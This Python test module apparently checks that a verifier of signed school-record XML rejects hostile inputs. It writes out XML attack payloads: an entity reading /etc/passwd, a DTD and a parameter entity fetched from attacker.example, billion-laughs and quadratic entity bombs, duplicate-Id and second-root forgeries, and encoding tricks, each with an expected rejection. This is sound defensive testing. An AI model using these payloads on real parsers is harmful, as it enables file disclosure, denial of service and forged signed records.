"""D. Parser: bytes that two readers take for two documents, or that make a reader do too much."""

from signing.report import SubIndication
from tests.support import records, signed_records
from tests.support.attacks import FAILED, PASSED, UNREADABLE, attack, covered
from tests.support.signed_records import tree
from tests.support.spoiled import PRINCIPAL, all_sign

HASH = SubIndication.HASH_FAILURE
CONSTRAINTS = SubIndication.SIG_CONSTRAINTS_FAILURE
ROOT_START = b"<HOC_BA_SO>"


def _with_doctype(subset: str, entity: bytes = b"") -> bytes:
    """The signed record under a document type, *entity* in place of a signed name."""
    data = signed_records.signed_primary()
    declaration = f"<!DOCTYPE HOC_BA_SO {subset}>\n".encode()
    data = data.replace(ROOT_START, declaration + ROOT_START)
    return data.replace(b"<hovaten>", b"<hovaten>" + entity) if entity else data


# ------------------------------------------------------------------------- D1 to D5: document type


@attack("D1", "document-type", expects=(UNREADABLE, None, "HB-U005"))
def document_type() -> bytes:
    """A bare document type before the root."""
    return _with_doctype("")


@attack("D1", "document-type-with-default-attributes", expects=(UNREADABLE, None, "HB-U005"))
def default_attributes() -> bytes:
    """A document type that gives the signed element an Id by default."""
    return _with_doctype("[<!ATTLIST DU_LIEU_HOC_BA Id ID 'data'>]")


@attack("D2", "external-entity", expects=(UNREADABLE, None, "HB-U005"))
def external_entity() -> bytes:
    """An entity that reads a file of the server."""
    return _with_doctype("[<!ENTITY x SYSTEM 'file:///etc/passwd'>]", b"&x;")


@attack("D2", "external-subset", expects=(UNREADABLE, None, "HB-U005"))
def external_subset() -> bytes:
    """A document type kept on somebody else's server."""
    return _with_doctype("SYSTEM 'http://attacker.example/x.dtd'")


@attack("D2", "parameter-entity", expects=(UNREADABLE, None, "HB-U005"))
def parameter_entity() -> bytes:
    """A parameter entity that fetches further declarations."""
    return _with_doctype("[<!ENTITY % x SYSTEM 'http://attacker.example/x'> %x;]")


@attack("D3", "billion-laughs", expects=(UNREADABLE, None, "HB-U005"))
def billion_laughs() -> bytes:
    """Ten entities, each ten times the one before."""
    entities = "<!ENTITY a0 'ha'>" + "".join(
        f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
    )
    return _with_doctype(f"[{entities}]", b"&a9;")


@attack("D4", "quadratic-blow-up", expects=(UNREADABLE, None, "HB-U005"))
def quadratic() -> bytes:
    """One long entity, referenced many times: below every limit on nesting."""
    return _with_doctype(f"[<!ENTITY a '{'a' * 50_000}'>]", b"&a;" * 20_000)


@attack("D5", "entity-in-an-attribute", expects=(UNREADABLE, None, "HB-U005"))
def entity_in_attribute() -> bytes:
    """The signed Id is written as an entity."""
    data = _with_doctype("[<!ENTITY i 'data'>]")
    return data.replace(b'Id="data"', b'Id="&i;"')


@attack("D5", "undeclared-entity-in-an-attribute", expects=(UNREADABLE, None, "HB-U012"))
def undeclared_entity() -> bytes:
    """The signed Id is written as an entity that nothing declares."""
    return signed_records.signed_primary().replace(b'Id="data"', b'Id="&i;"')


# ------------------------------------------------------------------------- D6, D7: size


@attack("D6", "too-deep", expects=(UNREADABLE, None, "HB-U007"))
def too_deep() -> bytes:
    """Elements nested 300 deep inside the signed content."""
    return _inside(b"<x>" * 300 + b"</x>" * 300)


@attack("D6", "deep-within-the-limit", expects=(FAILED, HASH, "HB-S010"), about=PRINCIPAL)
def deep() -> bytes:
    """Elements nested 240 deep inside the signed content: read, and seen."""
    return _inside(b"<x>" * 240 + b"</x>" * 240)


@attack("D7", "ten-megabytes-of-text", expects=(UNREADABLE, None, "HB-U002"))
def long_text() -> bytes:
    """One text of 10 MB in the signed content."""
    return _inside(b"a" * 10_000_000)


@attack("D7", "four-megabytes-of-text", expects=(FAILED, HASH, "HB-S010"), about=PRINCIPAL)
def within_the_limit() -> bytes:
    """One text of 4 MB, within the limit: digested to the end."""
    return _inside(b"a" * 4_000_000)


def _inside(octets: bytes) -> bytes:
    return signed_records.signed_primary().replace(
        b"</THONG_TIN_HOC_BA>", octets + b"</THONG_TIN_HOC_BA>"
    )


# ------------------------------------------------------------------------- D8, D9: encoding


@attack("D8", "invalid-octet", expects=(UNREADABLE, None, "HB-U004"))
def invalid_octet() -> bytes:
    """An octet that begins no character in UTF-8."""
    return _inside(b"\xff")


@attack("D8", "overlong-form", expects=(UNREADABLE, None, "HB-U004"))
def overlong() -> bytes:
    """A less-than sign in the overlong form of two octets."""
    return _inside(b"\xc0\xbc")


@attack("D8", "surrogate", expects=(UNREADABLE, None, "HB-U004"))
def surrogate() -> bytes:
    """Half of a surrogate pair written as UTF-8."""
    return _inside(b"\xed\xa0\x80")


@attack("D8", "cut-character", expects=(UNREADABLE, None, "HB-U004"))
def cut_character() -> bytes:
    """A character whose last octet is missing."""
    return _inside(b"\xe1\xba")


@attack("D9", "utf-16-mark", expects=(UNREADABLE, None, "HB-U003"))
def utf_16() -> bytes:
    """The whole document in UTF-16 under its mark."""
    return signed_records.signed_primary().decode().encode("utf-16")


@attack("D9", "declared-otherwise", expects=(UNREADABLE, None, "HB-U003"))
def declared_otherwise() -> bytes:
    """UTF-8 octets declared as ISO-8859-1: other characters for whoever believes it."""
    data = signed_records.signed_primary()
    return data.replace(b"encoding='UTF-8'", b"encoding='ISO-8859-1'")


@attack("D9", "utf-8-mark-and-utf-16-declared", expects=(UNREADABLE, None, "HB-U003"))
def mark_and_declaration() -> bytes:
    """The mark of UTF-8 before a declaration of UTF-16."""
    data = signed_records.signed_primary()
    return b"\xef\xbb\xbf" + data.replace(b"encoding='UTF-8'", b"encoding='UTF-16'")


@attack("D9", "utf-7-declared", expects=(UNREADABLE, None, "HB-U003"))
def utf_7() -> bytes:
    """UTF-7 declared, in which markup hides in plain letters."""
    return signed_records.signed_primary().replace(b"encoding='UTF-8'", b"encoding='UTF-7'")


# ------------------------------------------------------------------------- D10: white space


def _with_attribute(value: bytes) -> bytes:
    """A signed record whose content carries an attribute written as *value*."""
    data = records.primary_record().replace(b"<hovaten>", b'<hovaten x="' + value + b'">')
    return signed_records.sign(data, "tieu-hoc")


def _rewritten(written: bytes) -> bytes:
    """The same record with the attribute's white space written as *written*."""
    return _with_attribute(b"a&#9;&#10;&#13;b").replace(b"a&#9;&#10;&#13;b", written)


@attack("D10", "tab-in-attribute-normalised", expects=(FAILED, HASH, "HB-S010"), about=PRINCIPAL)
def raw_white_space() -> bytes:
    """References to tab, line feed and return replaced by the characters: they become blanks."""
    return _rewritten(b"a\t\n\r\nb")


@attack("D10", "blanks-for-white-space", expects=(FAILED, HASH, "HB-S010"), about=PRINCIPAL)
def blanks() -> bytes:
    """References to tab, line feed and return replaced by blanks."""
    return _rewritten(b"a   b")


@attack("D10", "line-feed-for-tab", expects=(FAILED, HASH, "HB-S010"), about=PRINCIPAL)
def line_feed() -> bytes:
    """A reference to tab replaced by one to line feed."""
    return _rewritten(b"a&#10;&#10;&#13;b")


@attack("D10", "return-in-text", expects=(FAILED, HASH, "HB-S010"), about=PRINCIPAL)
def return_in_text() -> bytes:
    """A reference to carriage return in signed text: unlike a written one, it stays."""
    return _inside(b"&#13;")


@attack(
    "D10",
    "line-ends-of-windows",
    expects=(PASSED, None, None),
    harmless="every XML parser reads CR LF as LF: the document is the same",
)
def windows() -> bytes:
    """Every line end written as CR LF."""
    return signed_records.signed_primary().replace(b"\n", b"\r\n")


# ------------------------------------------------------------------------- D11, D12: split text


def _named_teacher(text: bytes) -> bytes:
    """A record that names its teacher as *text*, signed by everybody."""
    person = signed_records.PEOPLE["GVCN"].encode()
    named = b"<soddcngvcn>" + person + b"</soddcngvcn>"
    data = records.primary_record()
    if named not in data:
        raise ValueError("the record names its teacher otherwise")
    return data.replace(named, b"<soddcngvcn>" + text + b"</soddcngvcn>")


@attack("D11", "comment-cuts-a-personal-id", expects=(FAILED, CONSTRAINTS, "HB-S106"))
def comment_cuts() -> bytes:
    """A comment behind twelve digits, more digits behind it: all of them are the id."""
    person = signed_records.PEOPLE["GVCN"].encode()
    return all_sign(tree(_named_teacher(person + b"<!-- x -->9")))


@attack("D11", "instruction-cuts-a-personal-id", expects=(FAILED, CONSTRAINTS, "HB-S106"))
def instruction_cuts() -> bytes:
    """A processing instruction behind twelve digits, more digits behind it."""
    person = signed_records.PEOPLE["GVCN"].encode()
    return all_sign(tree(_named_teacher(person + b"<?x y?>9")))


@attack("D11", "instruction-in-signed-text", expects=(FAILED, HASH, "HB-S010"), about=PRINCIPAL)
def instruction_added() -> bytes:
    """A processing instruction put into a signed name: canonicalisation keeps it."""
    return signed_records.signed_primary().replace(b"<hovaten>", b"<hovaten><?x y?>")


@attack(
    "D11",
    "comment-added-after-signing",
    expects=(PASSED, None, None),
    harmless="canonicalisation drops comments, and whoever reads the name reads all of its text",
)
def comment_added() -> bytes:
    """A comment put into the middle of a signed name."""
    data = signed_records.signed_primary()
    name = tree(data).find(".//hovaten").text
    split = f"{name[:4]}<!-- x -->{name[4:]}"
    return data.replace(f"<hovaten>{name}<".encode(), f"<hovaten>{split}<".encode())


@attack("D12", "markup-in-cdata", expects=(FAILED, HASH, "HB-S010"), about=PRINCIPAL)
def markup_in_cdata() -> bytes:
    """Elements of the signed content turned into text by a CDATA section."""
    data = signed_records.signed_primary()
    return data.replace(b"<hovaten>", b"<hovaten><![CDATA[<x>]]>")


@attack("D12", "elements-swallowed-by-cdata", expects=(FAILED, HASH, "HB-S010"), about=PRINCIPAL)
def swallowed() -> bytes:
    """A CDATA section that swallows a whole subject row of the signed content."""
    data = signed_records.signed_primary()
    start, end = data.index(b"<DIEM_TONG_KET"), data.index(b"</DIEM_TONG_KET>") + 16
    return data[:start] + b"<![CDATA[" + data[start:end] + b"]]>" + data[end:]


@attack(
    "D12",
    "same-text-in-cdata",
    expects=(PASSED, None, None),
    harmless="a CDATA section is a way of writing text: the canonical form is the same",
)
def same_text() -> bytes:
    """A signed name written as a CDATA section."""
    data = signed_records.signed_primary()
    name = tree(data).find(".//hovaten").text.encode()
    return data.replace(b">" + name + b"<", b"><![CDATA[" + name + b"]]><")


# ------------------------------------------------------------------------- D13: two parsers


@attack("D13", "attribute-twice", expects=(UNREADABLE, None, "HB-U006"))
def attribute_twice() -> bytes:
    """The signed element carries Id twice: one parser takes the first, another the last."""
    return signed_records.signed_primary().replace(b'Id="data"', b'Id="khac" Id="data"')


@attack("D13", "second-root", expects=(UNREADABLE, None, "HB-U006"))
def second_root() -> bytes:
    """A whole forged record behind the signed one: some readers go on, some stop."""
    data = signed_records.signed_primary()
    return data + data[data.index(ROOT_START) :].replace("Người".encode(), b"X")


@attack("D13", "null-octet", expects=(UNREADABLE, None, "HB-U006"))
def null_octet() -> bytes:
    """A null octet inside the content: readers in C stop there."""
    return _inside(b"\x00")


@attack("D13", "xml-1-1", expects=(UNREADABLE, None, "HB-U014"))
def xml_1_1() -> bytes:
    """XML 1.1, whose line ends and names differ."""
    return signed_records.signed_primary().replace(b"version='1.0'", b"version='1.1'")


covered(
    "D13",
    "tests/signing/test_peers.py::test_the_jdk_rejects_nothing_that_we_accept",
    "The JDK's parser and ours on the same mutated bytes: what it rejects we do not accept.",
)
